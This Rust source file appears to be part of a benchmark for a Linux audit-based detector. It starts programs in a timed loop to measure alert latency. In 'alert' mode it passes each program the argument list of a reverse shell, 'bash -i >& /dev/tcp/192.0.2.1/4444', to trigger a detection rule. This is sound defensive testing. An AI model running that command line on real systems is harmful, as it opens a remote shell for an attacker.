//! The program that starts programs: this one again, in a process of its own.
//!
//! A fresh process per measurement matters: the kernel gives a task its audit context when it is forked, so one that is
//! older than the first use of audit is never watched.

use std::env;
use std::ffi::CString;
use std::io;
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::ptr;
use std::time::Duration;

use crate::error::{Error, Result};

/// The hidden command of this program that [`loop_over`] is.
pub const COMMAND: &str = "spawn-loop";

/// What each started program is given as arguments.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Arguments {
    /// `serial=N`.
    Serial,
    /// Those of a reverse shell, which a shipped rule alerts on, and `t=NANOSECONDS;`, the monotonic clock just before.
    Alert,
}

/// The processor everything is started on.
pub const PROCESSOR: usize = 0;

/// Starts the loop in a process of its own, tied to one processor; it prints how many nanoseconds it took. `rate` is in
/// starts per second, 0 for as fast as possible.
///
/// # Errors
/// When it cannot be started.
pub fn start(program: &Path, arguments: Arguments, first: u64, count: u64, rate: u64) -> Result<Child> {
    let own = env::current_exe().map_err(Error::io("cannot find this program"))?;
    let mut command = Command::new("setpriv");
    command.args(["--pdeathsig", "KILL"]).arg(own).arg("bench").arg(COMMAND).arg(program);
    command.arg(if arguments == Arguments::Alert { "alert" } else { "serial" });
    command.args([first, count, rate].map(|number| number.to_string()));
    command.stdout(Stdio::piped()).spawn().map_err(Error::io("cannot start the loop that starts programs"))
}

/// Waits for what [`start`] started; how long its loop took.
///
/// # Errors
/// When it failed.
pub fn finish(child: Child) -> Result<Duration> {
    let output =
        child.wait_with_output().map_err(Error::io("cannot wait for the loop that starts programs"))?;
    let nanoseconds = String::from_utf8_lossy(&output.stdout).trim().parse();
    match (output.status.success(), nanoseconds) {
        (true, Ok(nanoseconds)) => Ok(Duration::from_nanos(nanoseconds)),
        _ => Err(Error::Unexpected(format!("the loop that starts programs failed: {}", output.status))),
    }
}

/// The loop itself: `PROGRAM serial|alert FIRST COUNT RATE`.
///
/// # Errors
/// When the arguments are wrong or a program cannot be started.
pub fn loop_over(words: &[String]) -> Result<()> {
    let number = |word: &String| word.parse::<u64>().ok();
    let usage = || Error::Usage(format!("bench {COMMAND} PROGRAM serial|alert FIRST COUNT RATE"));
    let [program, kind, first, count, rate] = words else { return Err(usage()) };
    let (Some(first), Some(count), Some(rate)) = (number(first), number(count), number(rate)) else {
        return Err(usage());
    };
    pin(PROCESSOR).map_err(Error::io("cannot choose a processor"))?;
    let program = text(program)?;
    let shell = ["bash", "-i", ">&", "/dev/tcp/192.0.2.1/4444"].map(text);
    let [bash, interactive, redirect, address] = shell;
    let shell = [bash?, interactive?, redirect?, address?];
    let begin = monotonic();
    for index in 0..count {
        if let Some(due) = (index * 1_000_000_000).checked_div(rate) {
            std::thread::sleep(Duration::from_nanos((begin + due).saturating_sub(monotonic())));
        }
        if kind == "alert" {
            let stamp = text(&format!("t={};", monotonic()))?;
            spawn(&program, &[&shell[0], &shell[1], &shell[2], &shell[3], &stamp])
        } else {
            spawn(&program, &[&program, &text(&format!("serial={}", first + index))?])
        }
        .map_err(Error::io("cannot start a program"))?;
    }
    println!("{}", monotonic() - begin);
    Ok(())
}

/// Nanoseconds of the clock all processes share.
#[must_use]
pub fn monotonic() -> u64 {
    let mut now = libc::timespec { tv_sec: 0, tv_nsec: 0 };
    // SAFETY: the pointer is to a live timespec; CLOCK_MONOTONIC always exists.
    unsafe { libc::clock_gettime(libc::CLOCK_MONOTONIC, &mut now) };
    now.tv_sec.unsigned_abs() * 1_000_000_000 + now.tv_nsec.unsigned_abs()
}

pub(super) fn text(word: &(impl AsRef<str> + ?Sized)) -> Result<CString> {
    CString::new(word.as_ref()).map_err(|_| Error::Usage("an argument with a NUL byte".into()))
}

fn pin(processor: usize) -> io::Result<()> {
    // SAFETY: a cpu_set_t of zeros is an empty set.
    let mut set: libc::cpu_set_t = unsafe { std::mem::zeroed() };
    // SAFETY: `set` is a valid set, and 0 a processor number below CPU_SETSIZE.
    unsafe { libc::CPU_SET(processor, &mut set) };
    // SAFETY: the size is that of the set pointed to; 0 is this thread.
    match unsafe { libc::sched_setaffinity(0, size_of::<libc::cpu_set_t>(), &set) } {
        0 => Ok(()),
        _ => Err(io::Error::last_os_error()),
    }
}

/// One program, to its end. The C library starts it the cheapest way there is, with the memory shared until exec.
pub(super) fn spawn(program: &CString, arguments: &[&CString]) -> io::Result<()> {
    let mut argv = [ptr::null_mut(); 8];
    for (slot, argument) in argv.iter_mut().take(7).zip(arguments) {
        *slot = argument.as_ptr().cast_mut();
    }
    let environment = [ptr::null_mut()];
    let mut pid = 0;
    // SAFETY: `argv` and `environment` end with a null pointer, and all strings live until this returns.
    let status = unsafe {
        libc::posix_spawn(
            &mut pid,
            program.as_ptr(),
            ptr::null(),
            ptr::null(),
            argv.as_ptr(),
            environment.as_ptr(),
        )
    };
    if status != 0 {
        return Err(io::Error::from_raw_os_error(status));
    }
    let mut end = 0;
    // SAFETY: `end` is live; `pid` is a child of this process that nobody else waits for.
    if unsafe { libc::waitpid(pid, &mut end, 0) } != pid {
        return Err(io::Error::last_os_error());
    }
    if end == 0 {
        Ok(())
    } else {
        Err(io::Error::other(format!("the program ended with status {end}")))
    }
}
